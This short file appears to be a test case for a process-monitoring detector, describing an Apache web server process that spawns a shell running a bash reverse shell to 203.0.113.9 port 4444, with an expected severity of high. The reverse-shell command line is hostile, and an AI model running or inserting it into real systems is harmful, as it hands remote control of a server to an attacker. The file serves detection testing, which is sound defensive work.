# The classic.
web is /usr/sbin/apache2 uid=33
web fork sh
sh exec /bin/bash "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
expect high hands a shell to another machine
